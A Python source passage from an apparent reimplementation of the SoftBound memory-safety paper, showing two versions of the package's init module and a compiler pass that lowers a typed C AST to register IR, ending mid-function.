A from-scratch Python reimplementation of *SoftBound: Highly Compatible
and Complete Spatial Memory Safety for C* (Nagarakatte, Zhao, Martin,
Zdancewic — UPenn TR MS-CIS-09-01 / PLDI 2009), including every substrate
the paper depends on: a C-subset compiler frontend, a typed register IR
with an optimizer, an interpreting virtual machine over simulated
byte-addressable memory, the SoftBound transformation itself with both
metadata facilities (hash table and shadow space), the baseline checkers
the paper compares against, and an executable version of the paper's
formal semantics.

Quickstart (the :mod:`repro.api` facade)::

    from repro.api import Session

    session = Session()
    report = session.run(C_SOURCE)                      # unprotected
    report = session.run(C_SOURCE, profile="spatial")   # protected
    report = session.run(C_SOURCE, profile="temporal")  # + lock-and-key

The legacy one-call forms remain as byte-identical shims::

    from repro import compile_and_run, SoftBoundConfig

    result = compile_and_run(C_SOURCE)                    # unprotected
    result = compile_and_run(C_SOURCE, SoftBoundConfig()) # protected
"""

__version__ = "2.0.0"

__all__ = [
    # The facade (re-exported from repro.api).
    "ProtectionProfile",
    "Toolchain",
    "Session",
    "RunReport",
    "BatchReport",
    "resolve_env",
    "compile_source",
    "run_source",
    # Legacy shims.
    "CompiledProgram",
    "compile_program",
    "compile_and_run",
    "run_program",
    "compile_and_link",
    "CheckMode",
    "MetadataScheme",
    "SoftBoundConfig",
]

_API_NAMES = {"ProtectionProfile", "Toolchain", "Session", "RunReport",
              "BatchReport", "resolve_env", "compile_source", "run_source",
              "CompiledProgram"}
_DRIVER_NAMES = {"compile_program", "compile_and_run", "run_program"}
_CONFIG_NAMES = {"CheckMode", "MetadataScheme", "SoftBoundConfig"}
_LINKER_NAMES = {"compile_and_link"}


def __getattr__(name):
    # Lazy re-exports keep `import repro.frontend` usable even when only
    # part of the package is needed, and avoid import cycles.
    if name in _API_NAMES:
        from . import api

        return getattr(api, name)
    if name in _DRIVER_NAMES:
        from .harness import driver

        return getattr(driver, name)
    if name in _CONFIG_NAMES:
        from .softbound import config

        return getattr(config, name)
    if name in _LINKER_NAMES:
        from .harness import linker

        return getattr(linker, name)
    raise AttributeError(f"module 'repro' has no attribute {name!r}")
