"""SoftBound reproduction.

A from-scratch Python reimplementation of *SoftBound: Highly Compatible
and Complete Spatial Memory Safety for C* (Nagarakatte, Zhao, Martin,
Zdancewic — UPenn TR MS-CIS-09-01 / PLDI 2009), including every substrate
the paper depends on: a C-subset compiler frontend, a typed register IR
with an optimizer, an interpreting virtual machine over simulated
byte-addressable memory, the SoftBound transformation itself with both
metadata facilities (hash table and shadow space), the baseline checkers
the paper compares against, and an executable version of the paper's
formal semantics.

Quickstart::

    from repro import compile_and_run, SoftBoundConfig

    result = compile_and_run(C_SOURCE)                    # unprotected
    result = compile_and_run(C_SOURCE, SoftBoundConfig()) # protected
"""

__version__ = "1.0.0"

__all__ = [
    "CompiledProgram",
    "compile_program",
    "compile_and_run",
    "run_program",
    "compile_and_link",
    "CheckMode",
    "MetadataScheme",
    "SoftBoundConfig",
]

_DRIVER_NAMES = {"CompiledProgram", "compile_program", "compile_and_run", "run_program"}
_CONFIG_NAMES = {"CheckMode", "MetadataScheme", "SoftBoundConfig"}
_LINKER_NAMES = {"compile_and_link"}


def __getattr__(name):
    # Lazy re-exports keep `import repro.frontend` usable even when only
    # part of the package is needed, and avoid import cycles.
    if name in _DRIVER_NAMES:
        from .harness import driver

        return getattr(driver, name)
    if name in _CONFIG_NAMES:
        from .softbound import config

        return getattr(config, name)
    if name in _LINKER_NAMES:
        from .harness import linker

        return getattr(linker, name)
    raise AttributeError(f"module 'repro' has no attribute {name!r}")
