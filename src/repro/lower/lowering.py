"""Lowering: typed AST → register IR.

Follows the paper's assumed compilation model (Section 3.1): the C code
is translated "into a generic intermediate form that contains only simple
operations, uses explicit indexing and memory access operations, and
provides the abstraction of an unbounded number of non-memory
intermediate values".

Every local variable initially receives a stack ``alloca``; the mem2reg
pass (:mod:`repro.opt.mem2reg`) later promotes non-address-taken scalars
to registers, playing the role the paper assigns to LLVM's register
promotion — minimizing the number of genuine memory operations that
SoftBound must instrument.

Struct-field address computations are emitted as :class:`Gep`
instructions tagged with the field's extent, which is where SoftBound's
sub-object bound shrinking hooks in.
"""

import struct

from ..frontend import ast_nodes as ast
from ..frontend import ctypes_ as ct
from ..ir import instructions as ins
from ..ir.irtypes import F64, I8, I32, I64, PTR, VOID, from_ctype, int_type
from ..ir.module import Function, GlobalVar, Module, Param
from ..ir.values import Const, Register, SymbolRef, const_float, const_int


class LoweringError(Exception):
    pass


class _LocalSlot:
    """A local variable: the register holding its alloca address."""

    def __init__(self, addr_reg, ctype):
        self.addr = addr_reg
        self.ctype = ctype


class Lowerer:
    def __init__(self, program):
        self.program = program  # TypedProgram
        self.module = Module()
        self.func = None
        self.block = None
        self.locals = None  # name -> _LocalSlot (scoped via list of dicts)
        self.break_targets = []
        self.continue_targets = []
        self.goto_blocks = {}
        self.static_count = 0
        # Source line of the statement currently being lowered; _emit
        # stamps it onto every instruction (obs profiler attribution).
        self._cur_line = 0

    # -- top level -------------------------------------------------------

    def lower(self):
        for name, decl in self.program.globals.items():
            self._lower_global(decl)
        for name, funcdef in self.program.functions.items():
            self._lower_function(funcdef)
        return self.module

    # -- globals -----------------------------------------------------------

    def _lower_global(self, decl):
        size = max(decl.type.size, 1)
        data = bytearray(size)
        relocs = []
        if decl.init is not None:
            self._fill_init(data, relocs, 0, decl.type, decl.init)
        self.module.add_global(
            GlobalVar(
                name=decl.name,
                ctype=decl.type,
                data=bytes(data),
                relocs=relocs,
                align=max(decl.type.align, 1),
            )
        )

    def _fill_init(self, data, relocs, offset, ctype, init):
        """Write a constant initializer into a global's byte image."""
        if isinstance(init, ast.InitList):
            if ctype.is_array:
                for i, item in enumerate(init.items):
                    self._fill_init(data, relocs, offset + i * ctype.element.size, ctype.element, item)
            elif ctype.is_struct:
                for item, fld in zip(init.items, ctype.fields):
                    self._fill_init(data, relocs, offset + fld.offset, fld.type, item)
            else:
                self._fill_init(data, relocs, offset, ctype, init.items[0])
            return
        if isinstance(init, ast.StringLiteral) and ctype.is_array:
            raw = init.value + b"\x00"
            data[offset : offset + len(raw)] = raw
            return
        value = self._const_value(init)
        if isinstance(value, _Reloc):
            relocs.append((offset, value.symbol, value.addend))
            return
        if ctype.is_float:
            data[offset : offset + 8] = struct.pack("<d", float(value))
        else:
            width = ctype.size if ctype.is_integer else 8
            data[offset : offset + width] = int(value).to_bytes(width, "little", signed=False) \
                if value >= 0 else (value + (1 << (width * 8))).to_bytes(width, "little")

    def _const_value(self, expr):
        """Evaluate a constant initializer expression.

        Returns an int/float, or a :class:`_Reloc` for address constants.
        """
        if isinstance(expr, (ast.IntLiteral, ast.CharLiteral)):
            return expr.value
        if isinstance(expr, ast.FloatLiteral):
            return expr.value
        if isinstance(expr, ast.StringLiteral):
            name = self.module.intern_string(expr.value)
            return _Reloc(name, 0)
        if isinstance(expr, ast.SizeofType):
            return expr.target_type.size
        if isinstance(expr, ast.Identifier):
            if expr.binding == "enum_const":
                return expr.enum_value
            if expr.binding == "function":
                return _Reloc(expr.name, 0)
            raise LoweringError(f"non-constant global initializer: {expr.name}")
        if isinstance(expr, ast.ImplicitConvert):
            if expr.kind in ("decay", "fndecay") and isinstance(expr.operand, ast.Identifier):
                return _Reloc(expr.operand.name, 0)
            if expr.kind in ("decay",) and isinstance(expr.operand, ast.StringLiteral):
                name = self.module.intern_string(expr.operand.value)
                return _Reloc(name, 0)
            return self._const_value(expr.operand)
        if isinstance(expr, ast.Unary):
            if expr.op == "&" and isinstance(expr.operand, ast.Identifier):
                return _Reloc(expr.operand.name, 0)
            if expr.op == "&" and isinstance(expr.operand, ast.Index):
                base = expr.operand.base
                inner = base.operand if isinstance(base, ast.ImplicitConvert) else base
                if isinstance(inner, ast.Identifier) and isinstance(expr.operand.index, ast.IntLiteral):
                    elem = base.ctype.pointee if base.ctype.is_pointer else base.ctype.element
                    return _Reloc(inner.name, expr.operand.index.value * elem.size)
            value = self._const_value(expr.operand)
            if expr.op == "-":
                return -value
            if expr.op == "~":
                return ~value
            raise LoweringError(f"non-constant initializer unary {expr.op}")
        if isinstance(expr, ast.Binary):
            left = self._const_value(expr.left)
            right = self._const_value(expr.right)
            table = {
                "+": lambda a, b: a + b,
                "-": lambda a, b: a - b,
                "*": lambda a, b: a * b,
                "/": lambda a, b: a // b,
                "<<": lambda a, b: a << b,
                ">>": lambda a, b: a >> b,
                "|": lambda a, b: a | b,
                "&": lambda a, b: a & b,
                "^": lambda a, b: a ^ b,
            }
            if expr.op in table and not isinstance(left, _Reloc) and not isinstance(right, _Reloc):
                return table[expr.op](left, right)
            raise LoweringError(f"non-constant initializer binary {expr.op}")
        if isinstance(expr, ast.Cast):
            return self._const_value(expr.operand)
        raise LoweringError(f"unsupported global initializer {type(expr).__name__}")

    # -- functions -----------------------------------------------------------

    def _lower_function(self, funcdef):
        irfunc = Function(
            funcdef.name,
            return_irtype=from_ctype(funcdef.return_type) if not funcdef.return_type.is_void else VOID,
            return_ctype=funcdef.return_type,
            varargs=funcdef.varargs,
        )
        self.module.add_function(irfunc)
        self.func = irfunc
        self.locals = [{}]
        self._cur_line = getattr(funcdef, "line", 0)
        self.goto_blocks = {}
        self.block = irfunc.new_block("entry")

        # Parameters: spill each into an alloca so that & works uniformly;
        # mem2reg re-promotes the ones whose address is never taken.
        for pdecl in funcdef.params:
            preg = irfunc.new_reg(from_ctype(pdecl.type), pdecl.name)
            irfunc.params.append(Param(register=preg, ctype=pdecl.type, name=pdecl.name))
            slot = self._alloca(pdecl.type, pdecl.name, is_param=True)
            self._emit(ins.Store(value=preg, addr=slot.addr, type=from_ctype(pdecl.type),
                                 is_pointer_value=pdecl.type.is_pointer))
            self.locals[-1][pdecl.name] = slot

        self._lower_block(funcdef.body)

        # Implicit return for void functions / fall-off-the-end.
        if self.block.terminator is None:
            if funcdef.return_type.is_void:
                self._emit(ins.Ret())
            else:
                self._emit(ins.Ret(value=const_int(0, irfunc.return_type)
                                   if irfunc.return_type.is_int or irfunc.return_type.is_ptr
                                   else const_float(0.0)))
        # Any empty goto-created blocks get explicit unreachables.
        for block in irfunc.blocks:
            if not block.instructions:
                block.append(ins.Unreachable())
            elif block.terminator is None:
                block.append(ins.Unreachable())
        self.func = None

    # -- helpers -----------------------------------------------------------

    def _emit(self, instruction):
        if self._cur_line:
            instruction.src_line = self._cur_line
        self.block.append(instruction)
        return instruction

    def _alloca(self, ctype, name, is_param=False):
        reg = self.func.new_reg(PTR, name + ".addr")
        # Allocas belong at the top of the entry block so frame layout is
        # static; emitting in the current block is fine because the
        # interpreter performs frame layout by scanning all allocas.
        self._emit(ins.Alloca(dst=reg, size=max(ctype.size, 1), align=max(ctype.align, 1),
                              ctype=ctype, name=name, is_param=is_param))
        return _LocalSlot(reg, ctype)

    def _lookup_local(self, name):
        for scope in reversed(self.locals):
            if name in scope:
                return scope[name]
        return None

    def _new_block(self, hint):
        return self.func.new_block(hint)

    def _set_block(self, block):
        self.block = block

    def _branch_to(self, block):
        if self.block.terminator is None:
            self._emit(ins.Br(label=block.label))
        self._set_block(block)

    # -- statements ----------------------------------------------------------

    def _lower_block(self, block):
        self.locals.append({})
        for item in block.items:
            if isinstance(item, ast.Decl):
                self._lower_local_decl(item)
            else:
                self._lower_stmt(item)
        self.locals.pop()

    def _lower_local_decl(self, decl):
        if getattr(decl, "line", 0):
            self._cur_line = decl.line
        if decl.storage == "static":
            # Function-scope statics become module globals with a
            # uniquified name.
            gname = f"{self.func.name}.{decl.name}.{self.static_count}"
            self.static_count += 1
            size = max(decl.type.size, 1)
            data = bytearray(size)
            relocs = []
            if decl.init is not None:
                self._fill_init(data, relocs, 0, decl.type, decl.init)
            self.module.add_global(GlobalVar(name=gname, ctype=decl.type, data=bytes(data),
                                             relocs=relocs, align=max(decl.type.align, 1)))
            slot = _LocalSlot(None, decl.type)
            slot.global_name = gname
            self.locals[-1][decl.name] = slot
            return
        slot = self._alloca(decl.type, decl.name)
        self.locals[-1][decl.name] = slot
        if decl.init is not None:
            self._lower_local_init(slot.addr, decl.type, decl.init)

    def _lower_local_init(self, addr, ctype, init):
        if isinstance(init, ast.InitList):
            # Zero-fill first so partial initializer lists behave like C.
            self._emit(ins.Call(dst=None, callee="memset",
                                args=[addr, const_int(0, I32), const_int(ctype.size, I64)],
                                arg_ctypes=[ct.VOID_PTR, ct.INT, ct.LONG], ret_ctype=ct.VOID))
            if ctype.is_array:
                for i, item in enumerate(init.items):
                    sub = self.func.new_reg(PTR)
                    self._emit(ins.Gep(dst=sub, base=addr,
                                       offset=const_int(i * ctype.element.size, I64)))
                    self._lower_local_init(sub, ctype.element, item)
            elif ctype.is_struct:
                for item, fld in zip(init.items, ctype.fields):
                    sub = self.func.new_reg(PTR)
                    self._emit(ins.Gep(dst=sub, base=addr, offset=const_int(fld.offset, I64),
                                       field_extent=fld.type.size))
                    self._lower_local_init(sub, fld.type, item)
            else:
                self._lower_local_init(addr, ctype, init.items[0])
            return
        if isinstance(init, ast.StringLiteral) and ctype.is_array:
            name = self.module.intern_string(init.value)
            self._emit(ins.Call(dst=None, callee="memcpy",
                                args=[addr, SymbolRef(name), const_int(len(init.value) + 1, I64)],
                                arg_ctypes=[ct.VOID_PTR, ct.VOID_PTR, ct.LONG], ret_ctype=ct.VOID_PTR))
            return
        if ctype.is_struct:
            src_addr, _ = self._lower_lvalue_or_value(init)
            self._emit(ins.MemCopy(dst_addr=addr, src_addr=src_addr, size=ctype.size, ctype=ctype))
            return
        value = self._lower_expr(init)
        value = self._convert(value, init.ctype, ctype)
        self._emit(ins.Store(value=value, addr=addr, type=from_ctype(ctype),
                             is_pointer_value=ctype.is_pointer))

    def _lower_stmt(self, stmt):
        handler = getattr(self, "_stmt_" + type(stmt).__name__, None)
        if handler is None:
            raise LoweringError(f"unhandled statement {type(stmt).__name__}")
        if getattr(stmt, "line", 0):
            self._cur_line = stmt.line
        handler(stmt)

    def _stmt_Block(self, stmt):
        self._lower_block(stmt)

    def _stmt_ExprStmt(self, stmt):
        if stmt.expr is not None:
            self._lower_expr(stmt.expr)

    def _stmt_If(self, stmt):
        then_block = self._new_block("if.then")
        end_block = self._new_block("if.end")
        else_block = self._new_block("if.else") if stmt.otherwise else end_block
        self._lower_cond_branch(stmt.cond, then_block, else_block)
        self._set_block(then_block)
        self._lower_stmt(stmt.then)
        self._branch_to_label(end_block)
        if stmt.otherwise:
            self._set_block(else_block)
            self._lower_stmt(stmt.otherwise)
            self._branch_to_label(end_block)
        self._set_block(end_block)

    def _branch_to_label(self, block):
        if self.block.terminator is None:
            self._emit(ins.Br(label=block.label))

    def _stmt_While(self, stmt):
        cond_block = self._new_block("while.cond")
        body_block = self._new_block("while.body")
        end_block = self._new_block("while.end")
        self._branch_to_label(cond_block)
        self._set_block(cond_block)
        self._lower_cond_branch(stmt.cond, body_block, end_block)
        self._set_block(body_block)
        self.break_targets.append(end_block)
        self.continue_targets.append(cond_block)
        self._lower_stmt(stmt.body)
        self.break_targets.pop()
        self.continue_targets.pop()
        self._branch_to_label(cond_block)
        self._set_block(end_block)

    def _stmt_DoWhile(self, stmt):
        body_block = self._new_block("do.body")
        cond_block = self._new_block("do.cond")
        end_block = self._new_block("do.end")
        self._branch_to_label(body_block)
        self._set_block(body_block)
        self.break_targets.append(end_block)
        self.continue_targets.append(cond_block)
        self._lower_stmt(stmt.body)
        self.break_targets.pop()
        self.continue_targets.pop()
        self._branch_to_label(cond_block)
        self._set_block(cond_block)
        self._lower_cond_branch(stmt.cond, body_block, end_block)
        self._set_block(end_block)

    def _stmt_For(self, stmt):
        self.locals.append({})
        if isinstance(stmt.init, list):
            for decl in stmt.init:
                self._lower_local_decl(decl)
        elif stmt.init is not None:
            self._lower_expr(stmt.init)
        cond_block = self._new_block("for.cond")
        body_block = self._new_block("for.body")
        step_block = self._new_block("for.step")
        end_block = self._new_block("for.end")
        self._branch_to_label(cond_block)
        self._set_block(cond_block)
        if stmt.cond is not None:
            self._lower_cond_branch(stmt.cond, body_block, end_block)
        else:
            self._emit(ins.Br(label=body_block.label))
        self._set_block(body_block)
        self.break_targets.append(end_block)
        self.continue_targets.append(step_block)
        self._lower_stmt(stmt.body)
        self.break_targets.pop()
        self.continue_targets.pop()
        self._branch_to_label(step_block)
        self._set_block(step_block)
        if stmt.step is not None:
            self._lower_expr(stmt.step)
        self._branch_to_label(cond_block)
        self._set_block(end_block)
        self.locals.pop()

    def _stmt_Return(self, stmt):
        if stmt.value is None:
            self._emit(ins.Ret())
        else:
            value = self._lower_expr(stmt.value)
            value = self._convert(value, stmt.value.ctype, self.func.return_ctype)
            self._emit(ins.Ret(value=value))
        # Subsequent code in this block is dead; give it a scratch block.
        self._set_block(self._new_block("dead"))

    def _stmt_Break(self, stmt):
        if not self.break_targets:
            raise LoweringError("break outside loop/switch")
        self._emit(ins.Br(label=self.break_targets[-1].label))
        self._set_block(self._new_block("dead"))

    def _stmt_Continue(self, stmt):
        if not self.continue_targets:
            raise LoweringError("continue outside loop")
        self._emit(ins.Br(label=self.continue_targets[-1].label))
        self._set_block(self._new_block("dead"))

    def _stmt_Switch(self, stmt):
        value = self._lower_expr(stmt.cond)
        end_block = self._new_block("switch.end")
        cases = stmt.body.items
        case_blocks = [self._new_block(f"case{i}") for i in range(len(cases))]
        default_block = end_block
        # Dispatch chain.
        for i, case in enumerate(cases):
            if case.value is None:
                default_block = case_blocks[i]
        for i, case in enumerate(cases):
            if case.value is None:
                continue
            const = self._case_const(case.value)
            cmp_reg = self.func.new_reg(I32)
            self._emit(ins.Cmp(dst=cmp_reg, pred="eq", a=value,
                               b=const_int(const, value.type if hasattr(value, 'type') else I64)))
            next_test = self._new_block(f"switch.test{i}")
            self._emit(ins.CBr(cond=cmp_reg, true_label=case_blocks[i].label,
                               false_label=next_test.label))
            self._set_block(next_test)
        self._emit(ins.Br(label=default_block.label))
        # Case bodies with fallthrough.
        self.break_targets.append(end_block)
        for i, case in enumerate(cases):
            self._set_block(case_blocks[i])
            for sub in case.stmts:
                self._lower_stmt(sub)
            next_block = case_blocks[i + 1] if i + 1 < len(cases) else end_block
            self._branch_to_label(next_block)
        self.break_targets.pop()
        self._set_block(end_block)

    def _case_const(self, expr):
        if isinstance(expr, (ast.IntLiteral, ast.CharLiteral)):
            return expr.value
        if isinstance(expr, ast.Identifier) and expr.binding == "enum_const":
            return expr.enum_value
        if isinstance(expr, ast.Unary) and expr.op == "-":
            return -self._case_const(expr.operand)
        raise LoweringError("case label must be an integer constant")

    def _stmt_Goto(self, stmt):
        block = self._goto_block(stmt.label)
        self._emit(ins.Br(label=block.label))
        self._set_block(self._new_block("dead"))

    def _stmt_Label(self, stmt):
        block = self._goto_block(stmt.name)
        self._branch_to_label(block)
        self._set_block(block)
        self._lower_stmt(stmt.stmt)

    def _goto_block(self, name):
        if name not in self.goto_blocks:
            self.goto_blocks[name] = self._new_block(f"label.{name}")
        return self.goto_blocks[name]

    # -- conditions ------------------------------------------------------------

    def _lower_cond_branch(self, cond, true_block, false_block):
        """Lower a condition with short-circuiting directly into branches."""
        if isinstance(cond, ast.Binary) and cond.op == "&&":
            mid = self._new_block("and.rhs")
            self._lower_cond_branch(cond.left, mid, false_block)
            self._set_block(mid)
            self._lower_cond_branch(cond.right, true_block, false_block)
            return
        if isinstance(cond, ast.Binary) and cond.op == "||":
            mid = self._new_block("or.rhs")
            self._lower_cond_branch(cond.left, true_block, mid)
            self._set_block(mid)
            self._lower_cond_branch(cond.right, true_block, false_block)
            return
        if isinstance(cond, ast.Unary) and cond.op == "!":
            self._lower_cond_branch(cond.operand, false_block, true_block)
            return
        value = self._lower_expr(cond)
        flag = self._truthiness(value, cond.ctype)
        self._emit(ins.CBr(cond=flag, true_label=true_block.label, false_label=false_block.label))

    def _truthiness(self, value, ctype):
        reg = self.func.new_reg(I32, "tobool")
        if ctype.is_float:
            self._emit(ins.Cmp(dst=reg, pred="fne", a=value, b=const_float(0.0)))
        else:
            self._emit(ins.Cmp(dst=reg, pred="ne", a=value, b=const_int(0, value.type if isinstance(value, Register) else from_ctype(ctype))))
        return reg

    # -- expressions ---------------------------------------------------------------

    def _lower_expr(self, expr):
        handler = getattr(self, "_expr_" + type(expr).__name__, None)
        if handler is None:
            raise LoweringError(f"unhandled expression {type(expr).__name__}")
        return handler(expr)

    def _lower_lvalue(self, expr):
        """Lower an lvalue to its address.  Returns (addr_value, ctype)."""
        if isinstance(expr, ast.Identifier):
            slot = self._lookup_local(expr.name)
            if slot is not None:
                if slot.addr is None:  # local static
                    return SymbolRef(slot.global_name), slot.ctype
                return slot.addr, slot.ctype
            if expr.binding == "global":
                return SymbolRef(expr.name), expr.ctype
            if expr.binding == "function":
                return SymbolRef(expr.name), expr.ctype
            raise LoweringError(f"cannot take address of {expr.name}")
        if isinstance(expr, ast.Unary) and expr.op == "*":
            value = self._lower_expr(expr.operand)
            return value, expr.ctype
        if isinstance(expr, ast.Index):
            base = self._lower_expr(expr.base)
            index = self._lower_expr(expr.index)
            index = self._convert(index, expr.index.ctype, ct.LONG)
            elem = expr.base.ctype.pointee
            offset = self.func.new_reg(I64)
            self._emit(ins.BinOp(dst=offset, op="mul", a=index, b=const_int(elem.size, I64)))
            addr = self.func.new_reg(PTR)
            self._emit(ins.Gep(dst=addr, base=base, offset=offset))
            return addr, elem
        if isinstance(expr, ast.Member):
            if expr.arrow:
                base_addr = self._lower_expr(expr.base)
            else:
                base_addr, _ = self._lower_lvalue(expr.base)
            addr = self.func.new_reg(PTR, expr.name)
            self._emit(ins.Gep(dst=addr, base=base_addr,
                               offset=const_int(expr.field_offset, I64),
                               field_extent=expr.field_size))
            return addr, expr.ctype
        if isinstance(expr, ast.StringLiteral):
            name = self.module.intern_string(expr.value)
            return SymbolRef(name), expr.ctype
        if isinstance(expr, ast.ImplicitConvert) and expr.kind == "decay":
            return self._lower_lvalue(expr.operand)
        raise LoweringError(f"not an lvalue: {type(expr).__name__}")

    def _lower_lvalue_or_value(self, expr):
        """For struct rvalues (call results are unsupported): the address."""
        return self._lower_lvalue(expr)

    def _load_lvalue(self, addr, ctype):
        if ctype.is_array:
            return addr  # arrays decay to their address
        if ctype.is_struct:
            return addr  # struct values are manipulated by address
        if ctype.is_function:
            return addr
        reg = self.func.new_reg(from_ctype(ctype))
        self._emit(ins.Load(dst=reg, addr=addr, type=from_ctype(ctype),
                            is_pointer_value=ctype.is_pointer))
        return reg

    # Literals.

    def _expr_IntLiteral(self, expr):
        return const_int(expr.ctype.wrap(expr.value), from_ctype(expr.ctype))

    def _expr_CharLiteral(self, expr):
        return const_int(expr.value, I32)

    def _expr_FloatLiteral(self, expr):
        return const_float(expr.value)

    def _expr_StringLiteral(self, expr):
        name = self.module.intern_string(expr.value)
        return SymbolRef(name)

    def _expr_Identifier(self, expr):
        if expr.binding == "enum_const":
            return const_int(expr.enum_value, I32)
        if expr.binding == "function":
            return SymbolRef(expr.name)
        addr, ctype = self._lower_lvalue(expr)
        return self._load_lvalue(addr, ctype)

    def _expr_ImplicitConvert(self, expr):
        if expr.kind == "decay":
            addr, _ = self._lower_lvalue(expr.operand)
            return addr
        if expr.kind == "fndecay":
            if isinstance(expr.operand, ast.Identifier):
                return SymbolRef(expr.operand.name)
            return self._lower_expr(expr.operand)
        return self._lower_expr(expr.operand)

    def _expr_Unary(self, expr):
        op = expr.op
        if op == "&":
            addr, _ = self._lower_lvalue(expr.operand)
            return addr
        if op == "*":
            addr = self._lower_expr(expr.operand)
            return self._load_lvalue(addr, expr.ctype)
        if op in ("++pre", "--pre", "post++", "post--"):
            return self._lower_incdec(expr)
        value = self._lower_expr(expr.operand)
        if op == "-":
            dst = self.func.new_reg(from_ctype(expr.ctype))
            if expr.ctype.is_float:
                self._emit(ins.BinOp(dst=dst, op="fsub", a=const_float(0.0), b=value))
            else:
                value = self._convert(value, expr.operand.ctype, expr.ctype)
                self._emit(ins.BinOp(dst=dst, op="sub", a=const_int(0, from_ctype(expr.ctype)), b=value))
            return dst
        if op == "~":
            value = self._convert(value, expr.operand.ctype, expr.ctype)
            dst = self.func.new_reg(from_ctype(expr.ctype))
            self._emit(ins.BinOp(dst=dst, op="xor", a=value, b=const_int(-1, from_ctype(expr.ctype))))
            return dst
        if op == "!":
            flag = self._truthiness(value, expr.operand.ctype)
            dst = self.func.new_reg(I32)
            self._emit(ins.BinOp(dst=dst, op="xor", a=flag, b=const_int(1, I32)))
            return dst
        raise LoweringError(f"unhandled unary {op}")

    def _lower_incdec(self, expr):
        addr, ctype = self._lower_lvalue(expr.operand)
        old = self._load_lvalue(addr, ctype)
        delta = 1
        if ctype.is_pointer:
            new = self.func.new_reg(PTR)
            step = ctype.pointee.size
            offset = const_int(step if "++" in expr.op else -step, I64)
            self._emit(ins.Gep(dst=new, base=old, offset=offset))
        elif ctype.is_float:
            new = self.func.new_reg(F64)
            op = "fadd" if "++" in expr.op else "fsub"
            self._emit(ins.BinOp(dst=new, op=op, a=old, b=const_float(1.0)))
        else:
            new = self.func.new_reg(from_ctype(ctype))
            op = "add" if "++" in expr.op else "sub"
            self._emit(ins.BinOp(dst=new, op=op, a=old, b=const_int(1, from_ctype(ctype))))
        self._emit(ins.Store(value=new, addr=addr, type=from_ctype(ctype),
                             is_pointer_value=ctype.is_pointer))
        return old if expr.op.startswith("post") else new

    def _expr_Binary(self, expr):
        op = expr.op
        if op == ",":
            self._lower_expr(expr.left)
            return self._lower_expr(expr.right)
        if op in ("&&", "||"):
            return self._lower_logical(expr)
        left = self._lower_expr(expr.left)
        right = self._lower_expr(expr.right)
        lt, rt = expr.left.ctype, expr.right.ctype

        if op in ("==", "!=", "<", "<=", ">", ">="):
            return self._lower_comparison(expr, left, right, lt, rt)

        # Pointer arithmetic lowers to GEP (paper: "the resulting pointer
        # inherits the base and bound of the original pointer").
        if lt.is_pointer and rt.is_integer and op in ("+", "-"):
            index = self._convert(right, rt, ct.LONG)
            scaled = self.func.new_reg(I64)
            self._emit(ins.BinOp(dst=scaled, op="mul", a=index,
                                 b=const_int(lt.pointee.size, I64)))
            if op == "-":
                negated = self.func.new_reg(I64)
                self._emit(ins.BinOp(dst=negated, op="sub", a=const_int(0, I64), b=scaled))
                scaled = negated
            dst = self.func.new_reg(PTR)
            self._emit(ins.Gep(dst=dst, base=left, offset=scaled))
            return dst
        if rt.is_pointer and lt.is_integer and op == "+":
            index = self._convert(left, lt, ct.LONG)
            scaled = self.func.new_reg(I64)
            self._emit(ins.BinOp(dst=scaled, op="mul", a=index,
                                 b=const_int(rt.pointee.size, I64)))
            dst = self.func.new_reg(PTR)
            self._emit(ins.Gep(dst=dst, base=right, offset=scaled))
            return dst
        if lt.is_pointer and rt.is_pointer and op == "-":
            li = self.func.new_reg(I64)
            self._emit(ins.Cast(dst=li, kind="ptrtoint", src=left))
            ri = self.func.new_reg(I64)
            self._emit(ins.Cast(dst=ri, kind="ptrtoint", src=right))
            diff = self.func.new_reg(I64)
            self._emit(ins.BinOp(dst=diff, op="sub", a=li, b=ri))
            result = self.func.new_reg(I64)
            self._emit(ins.BinOp(dst=result, op="sdiv", a=diff,
                                 b=const_int(max(lt.pointee.size, 1), I64)))
            return result

        # Plain arithmetic with usual conversions.
        result_type = expr.ctype
        left = self._convert(left, lt, result_type)
        right = self._convert(right, rt, result_type)
        dst = self.func.new_reg(from_ctype(result_type))
        self._emit(ins.BinOp(dst=dst, op=self._arith_opcode(op, result_type), a=left, b=right))
        return dst

    def _arith_opcode(self, op, ctype):
        if ctype.is_float:
            return {"+": "fadd", "-": "fsub", "*": "fmul", "/": "fdiv"}[op]
        signed = ctype.signed if ctype.is_integer else True
        table = {
            "+": "add",
            "-": "sub",
            "*": "mul",
            "/": "sdiv" if signed else "udiv",
            "%": "srem" if signed else "urem",
            "&": "and",
            "|": "or",
            "^": "xor",
            "<<": "shl",
            ">>": "ashr" if signed else "lshr",
        }
        return table[op]

    def _lower_comparison(self, expr, left, right, lt, rt):
        dst = self.func.new_reg(I32)
        if lt.is_float or rt.is_float:
            left = self._convert(left, lt, ct.DOUBLE)
            right = self._convert(right, rt, ct.DOUBLE)
            pred = {"==": "feq", "!=": "fne", "<": "flt", "<=": "fle", ">": "fgt", ">=": "fge"}[expr.op]
        elif lt.is_pointer or rt.is_pointer:
            pred = {"==": "eq", "!=": "ne", "<": "ult", "<=": "ule", ">": "ugt", ">=": "uge"}[expr.op]
        else:
            common = ct.common_arith_type(lt, rt)
            left = self._convert(left, lt, common)
            right = self._convert(right, rt, common)
            if common.signed:
                pred = {"==": "eq", "!=": "ne", "<": "slt", "<=": "sle", ">": "sgt", ">=": "sge"}[expr.op]
            else:
                pred = {"==": "eq", "!=": "ne", "<": "ult", "<=": "ule", ">": "ugt", ">=": "uge"}[expr.op]
        self._emit(ins.Cmp(dst=dst, pred=pred, a=left, b=right))
        return dst

    def _lower_logical(self, expr):
        result = self.func.new_reg(I32, "logical")
        true_block = self._new_block("log.true")
        false_block = self._new_block("log.false")
        end_block = self._new_block("log.end")
        self._lower_cond_branch(expr, true_block, false_block)
        self._set_block(true_block)
        self._emit(ins.Mov(dst=result, src=const_int(1, I32)))
        self._emit(ins.Br(label=end_block.label))
        self._set_block(false_block)
        self._emit(ins.Mov(dst=result, src=const_int(0, I32)))
        self._emit(ins.Br(label=end_block.label))
        self._set_block(end_block)
        return result

    def _expr_Assign(self, expr):
        if expr.op == "=":
            if expr.target.ctype.is_struct:
                dst_addr, _ = self._lower_lvalue(expr.target)
                src_addr, _ = self._lower_lvalue_or_value(expr.value)
                self._emit(ins.MemCopy(dst_addr=dst_addr, src_addr=src_addr,
                                       size=expr.target.ctype.size, ctype=expr.target.ctype))
                return dst_addr
            value = self._lower_expr(expr.value)
